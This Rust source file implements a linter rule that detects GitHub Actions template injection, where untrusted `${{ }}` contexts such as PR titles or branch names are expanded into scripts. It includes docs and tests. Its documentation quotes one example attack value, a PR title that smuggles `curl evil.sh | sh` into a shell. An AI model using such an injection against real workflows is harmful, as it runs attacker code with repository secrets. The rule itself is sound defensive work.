//! ci/template-injection

use std::collections::HashMap;

use super::{each_github, nth_key};
use crate::ci::expr::{context_refs, expressions, holds_untrusted, untrusted};
use crate::ci::github::{GithubFile, Step};
use crate::ci::Scalar;
use crate::engine::Context;
use crate::finding::{Level, Tier, Violation};
use crate::policy::{Params, PolicyError};
use crate::rule::{Docs, Meta, Rule, RuleDef, Scope};

/// Registry entry.
pub const RULE: RuleDef = RuleDef { meta: &META, build };

static META: Meta = Meta {
    id: "ci/template-injection",
    summary: "Attacker-controlled `${{ }}` expressions are not expanded into scripts",
    default_level: Level::Error,
    tier: Tier::Gold,
    scope: Scope::PerFile,
    fixable: false,
    options: &[],
    docs: Docs {
        what: "A `${{ }}` expression that reads a context an outsider controls, inside a \
               step's `run:` script (in workflows and composite actions) or the `script:` of \
               `actions/github-script`. The contexts: titles and bodies of issues, pull \
               requests, comments, reviews and discussions \
               (`github.event.pull_request.title`, `github.event.comment.body`, ...), branch \
               names (`github.head_ref`, `github.event.pull_request.head.ref` and `.label`, \
               `github.event.workflow_run.head_branch`), commit messages and authors \
               (`github.event.head_commit.message`, `github.event.commits[*].author.email`, \
               ...), wiki page names (`github.event.pages[*].page_name`), and a whole event \
               object passed to `toJSON`. Uses that only yield a boolean (`contains(...)`, \
               comparisons, `!`) are not reported. Each finding points at the exact line and \
               column of the expression, inside `|` and `>` block scalars and quoted strings \
               too (for an alias, at the alias).",
        why: "GitHub substitutes the expression's value into the script text before the \
              shell runs it. A pull request titled `a\"; curl evil.sh | sh; echo \"` then \
              runs the attacker's commands, with the workflow's secrets and token.",
        example: "```yaml\n- run: |\n    echo \"Title: ${{ github.event.pull_request.title \
                  }}\"   # reported\n- env:\n    TITLE: ${{ github.event.pull_request.title \
                  }}\n  run: echo \"Title: $TITLE\"                          # fine\n```",
        fix: "Pass the value through an environment variable (`env: TITLE: ${{ ... }}`) and \
              use it quoted in the script (`\"$TITLE\"`), or as `process.env.TITLE` in \
              `github-script`. The shell then treats it as data, never as code.",
    },
};

struct TemplateInjection;

fn build(_: &mut Params) -> Result<Box<dyn Rule>, PolicyError> {
    Ok(Box::new(TemplateInjection))
}

/// The untrusted expressions of a script: their byte ranges in it and the context each reads.
pub(crate) fn injections(script: &str) -> Vec<(std::ops::Range<usize>, String)> {
    expressions(script)
        .into_iter()
        .filter_map(|e| {
            let inner = &script[e.inner.clone()];
            let refs = context_refs(inner);
            let tainted = refs.iter().find(|r| {
                !r.boolean
                    && (untrusted(&r.path).is_some() || (r.in_to_json && holds_untrusted(&r.path)))
            })?;
            Some((e.range, tainted.path.clone()))
        })
        .collect()
}

/// The scripts of a step: `run`, and `with.script` of `actions/github-script`.
fn scripts(step: &Step) -> Vec<(Scalar, &'static str)> {
    let mut found = Vec::new();
    if let Some(run) = &step.run {
        found.push((run.clone(), "run"));
    }
    if step.uses_action("actions/github-script") {
        if let Some(script) = step.with_value("script") {
            found.push((script, "github-script"));
        }
    }
    found
}

impl Rule for TemplateInjection {
    fn wants(&self) -> Vec<String> {
        super::github_wants()
    }

    fn check(&self, cx: &Context<'_>, out: &mut Vec<Violation>) {
        each_github(cx, |file, github| {
            let text = github.text();
            let mut seen = HashMap::new();
            let steps: Vec<(&str, &Step)> = match github {
                GithubFile::Workflow(w) => w
                    .jobs
                    .iter()
                    .flat_map(|j| j.steps.iter().map(move |s| (j.id.as_str(), s)))
                    .collect(),
                GithubFile::Action(a) => a.steps.iter().map(|s| ("runs", s)).collect(),
            };
            for (job, step) in steps {
                for (script, kind) in scripts(step) {
                    let found = injections(&script.value);
                    if found.is_empty() {
                        continue;
                    }
                    let ranges: Vec<_> = found.iter().map(|(r, _)| r.clone()).collect();
                    let spans = text.locate_all(&script, &ranges);
                    for ((range, path), span) in found.into_iter().zip(spans) {
                        let expression = &script.value[range];
                        let where_ = if kind == "run" {
                            "a `run` script"
                        } else {
                            "an `actions/github-script` script"
                        };
                        out.push(
                            Violation::file(
                                &file.path,
                                format!(
                                    "`{expression}` expands attacker-controlled `{path}` into \
                                     {where_}"
                                ),
                            )
                            .span(span)
                            .help(format!(
                                "pass it through `env:` (such as `VALUE: {expression}`) and use \
                                 {} in the script",
                                if kind == "run" {
                                    "\"$VALUE\""
                                } else {
                                    "process.env.VALUE"
                                }
                            ))
                            .key(nth_key(format!("{job}:{path}"), &mut seen)),
                        );
                    }
                }
            }
        });
    }
}

#[cfg(test)]
mod tests {
    use super::super::test_support::lines;
    use crate::testing::check;

    const POLICY: &str = "[rules.\"ci/template-injection\"]\n";

    fn workflow(run: &str) -> String {
        format!("on: pull_request\njobs:\n  a:\n    steps:\n      - run: {run}\n")
    }

    /// `(line, column, end column)` of each finding.
    fn found(run: &str) -> Vec<(u32, u32, u32)> {
        let text = workflow(run);
        check(POLICY, &[(".github/workflows/ci.yml", &text)])
            .iter()
            .map(|f| {
                let s = f.span.unwrap();
                (s.line, s.column, s.end_column)
            })
            .collect()
    }

    const TITLE: &str = "${{ github.event.pull_request.title }}";

    #[test]
    fn literal_block_scalars() {
        // `- run: |` at line 5; the expression on the script's second line.
        let run = format!("|\n          echo start\n          echo \"{TITLE}\"\n");
        assert_eq!(found(&run), [(7, 17, 17 + 38)]);
        let run = format!("|-\n          x\n\n          y {TITLE}\n");
        assert_eq!(found(&run), [(8, 13, 13 + 38)]);
        // Indentation indicator: two spaces of indentation, the rest is content.
        let run = format!("|2\n            a\n           {TITLE}\n");
        assert_eq!(found(&run), [(7, 12, 12 + 38)]);
    }

    #[test]
    fn folded_and_plain_multi_line_scalars() {
        let run = format!(">\n          echo a\n          b {TITLE}\n\n          c\n");
        assert_eq!(found(&run), [(7, 13, 13 + 38)]);
        let run = format!("echo one\n          two {TITLE}\n");
        assert_eq!(found(&run), [(6, 15, 15 + 38)]);
    }

    #[test]
    fn quoted_scalars_with_escapes() {
        // `      - run: ` is 13 characters: the value starts at column 14.
        let run = format!("'it''s {TITLE}'");
        assert_eq!(found(&run), [(5, 21, 21 + 38)]);
        let run = format!("\"a \\\"q\\\" \\t {TITLE}\"");
        assert_eq!(found(&run), [(5, 26, 26 + 38)]);
        // An escaped line break joins the lines; the expression is on the next one.
        let run = format!("\"echo \\\n          {TITLE}\"");
        assert_eq!(found(&run), [(6, 11, 11 + 38)]);
    }

    #[test]
    fn columns_count_characters() {
        let run = format!("|\n          echo \"é→ {TITLE}\"\n");
        assert_eq!(found(&run), [(6, 20, 20 + 38)]);
    }

    #[test]
    fn aliases_fall_back_to_the_alias() {
        let text = format!(
            "on: issues\nx: &s \"echo {TITLE}\"\njobs:\n  a:\n    steps:\n      - run: *s\n"
        );
        let findings = check(POLICY, &[(".github/workflows/ci.yml", &text)]);
        assert_eq!(lines(&findings), [(6, 14)]);
    }

    #[test]
    fn many_contexts_and_safe_uses() {
        let run = "|\n          echo ${{ github.head_ref }} ${{ github.event.issue.body }}\n          \
                   echo ${{ github.event.commits[0].message }} ${{ toJSON(github.event.pull_request) }}\n          \
                   echo ${{ github.event.pull_request.number }} ${{ github.sha }} ${{ contains(github.event.issue.title, 'x') }}\n          \
                   echo ${{ github.event.pull_request.title == 'x' }} ${{ inputs.name }}\n";
        let positions: Vec<(u32, u32)> = found(run).into_iter().map(|(l, c, _)| (l, c)).collect();
        assert_eq!(positions, [(6, 16), (6, 39), (7, 16), (7, 55)]);
    }

    #[test]
    fn github_script_and_composite_actions() {
        let workflow = "on: issue_comment\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        \
                        with:\n          script: |\n            const b = `${{ github.event.comment.body }}`\n";
        let action = "runs:\n  using: composite\n  steps:\n    - shell: bash\n      \
                      run: echo \"${{ github.event.head_commit.message }}\"\n";
        let findings = check(
            POLICY,
            &[
                (".github/workflows/c.yml", workflow),
                ("action.yml", action),
            ],
        );
        assert_eq!(lines(&findings), [(8, 24), (5, 18)], "{findings:#?}");
        assert!(findings[0].message.contains("github-script"));
    }

    #[test]
    fn env_indirection_is_fine() {
        let text = "on: pull_request\njobs:\n  a:\n    steps:\n      - env:\n          \
                    T: ${{ github.event.pull_request.title }}\n        run: echo \"$T\"\n";
        assert!(check(POLICY, &[(".github/workflows/ci.yml", text)]).is_empty());
    }
}
